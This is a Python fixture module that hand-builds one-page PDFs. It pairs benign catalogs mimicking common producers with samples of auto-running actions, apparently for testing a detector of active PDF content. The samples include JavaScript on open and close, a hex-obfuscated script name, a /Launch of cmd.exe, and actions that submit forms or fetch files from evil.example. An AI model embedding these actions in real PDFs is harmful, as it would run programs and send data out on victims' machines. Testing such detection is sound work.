"""PDFs as programs write them, and as those do who want something to run: objects by hand, so that every entry is in sight."""

HEADERS = {
	"Word": "/Type/Catalog/Pages 2 0 R/Lang(en-US) /MarkInfo<</Marked true>>/ViewerPreferences 9 0 R",
	"LibreOffice": "/Type/Catalog/Pages 2 0 R/OpenAction[3 0 R /XYZ null null 0]/Lang(zh-CN)",
	"LaTeX": "/Type/Catalog/Pages 2 0 R/Names 8 0 R/PageMode/UseOutlines/OpenAction 7 0 R",
	"Chromium": "/Type /Catalog\n/Pages 2 0 R /Dests 8 0 R",
	"macOS": "/Type /Catalog /Pages 2 0 R /Version /1.4",
	"ReportLab": "/OpenAction [ 3 0 R /FitH 800 ] /PageMode /UseNone /Pages 2 0 R /Type /Catalog",
	"a browser's printer": "/Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/PageLayout/OneColumn",
	"a name of a place": "/Type/Catalog/Pages 2 0 R/OpenAction(begin)",
	"the destination in an object": "/Type/Catalog/Pages 2 0 R/OpenAction 6 0 R",
	"no place at all": "/Type/Catalog/Pages 2 0 R/OpenAction null",
	"an object that is not there": "/Type/Catalog/Pages 2 0 R/OpenAction 99 0 R/Names 98 0 R",
	"to the last page": "/Type/Catalog/Pages 2 0 R/OpenAction<</S/Named/N/LastPage>>",
	"a first and a second place": "/Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 7 0 R>>",
}
# what stands in the pages of honest files, too
LINKS = (
	"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.com)>>>>]",
	"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Dest[3 0 R/Fit]>>]",
	"/Annots 5 0 R",
	"/Annots[99 0 R null]",
	"/Annots null",
)
_SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>"
_PROGRAM = "<</S/Launch/F(cmd.exe)>>"
RUNNING = {
	"a script": f"/OpenAction{_SCRIPT}",
	"a script in an object": "/OpenAction 10 0 R",
	"a script as letters in hex": "/OpenAction<</S/J#61vaScript/JS 11 0 R>>",
	"a program": f"/OpenAction{_PROGRAM}",
	"a website": "/OpenAction<</S/URI/URI(https://evil.example)>>",
	"another file": "/OpenAction<</S/GoToR/F(//evil.example/x)/D[0/Fit]>>",
	"a form that is sent": "/OpenAction<</S/SubmitForm/F(https://evil.example)>>",
	"a film": "/OpenAction<</S/Rendition/OP 0>>",
	"a script after a place": "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 10 0 R>>",
	"one of several after a place": "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[7 0 R 10 0 R]>>",
	"a chain without an end": "/OpenAction 12 0 R",
	"a script when it is closed": f"/AA<</WC{_SCRIPT}>>",
	"a script with a name": "/Names<</JavaScript<</Names[(a) 10 0 R]>>>>",
	"a script with a name in an object": "/Names 13 0 R",
}
RUNNING_PAGES = {
	"a page that comes into sight": f"/AA<</O{_SCRIPT}>>",
	"a page in an object": "/AA 14 0 R",
	"a click that starts a program": f"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A{_PROGRAM}>>]",
	"a click that starts a script": "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A 10 0 R>>]",
	"a field that runs a script": f"/Annots[<</Subtype/Widget/Rect[0 0 9 9]/AA<</K{_SCRIPT}>>>>]",
}
_OBJECTS = {
	2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
	4: "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D(begin)>>>>",
	5: "[4 0 R]",
	6: "[3 0 R/Fit]",
	7: "<</S/GoTo/D 6 0 R>>",
	8: "<</Dests<</Names[(begin) 6 0 R]>>>>",
	9: "<</DisplayDocTitle true>>",
	10: _SCRIPT,
	11: "(app.alert\\(1\\))",
	12: "<</S/GoTo/D[3 0 R/Fit]/Next 12 0 R>>",
	13: "<</JavaScript<</Names[(a) 10 0 R]>>>>",
	14: f"<</O{_SCRIPT}>>",
}


def pdf(catalog: str = "/Type/Catalog/Pages 2 0 R", page: str = "") -> bytes:
	"""A file of one page, with these entries in its catalog and its page."""
	objects = {1: f"<<{catalog}>>", 3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]{page}>>", **_OBJECTS}
	written, places = b"%PDF-1.7\n", {}
	for number in sorted(objects):
		places[number] = len(written)
		written += b"%d 0 obj%s endobj\n" % (number, objects[number].encode())
	lines = b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(objects))
	table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + lines
	end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(written))
	return written + table + end


def running(entry: str) -> bytes:
	return pdf("/Type/Catalog/Pages 2 0 R" + entry)
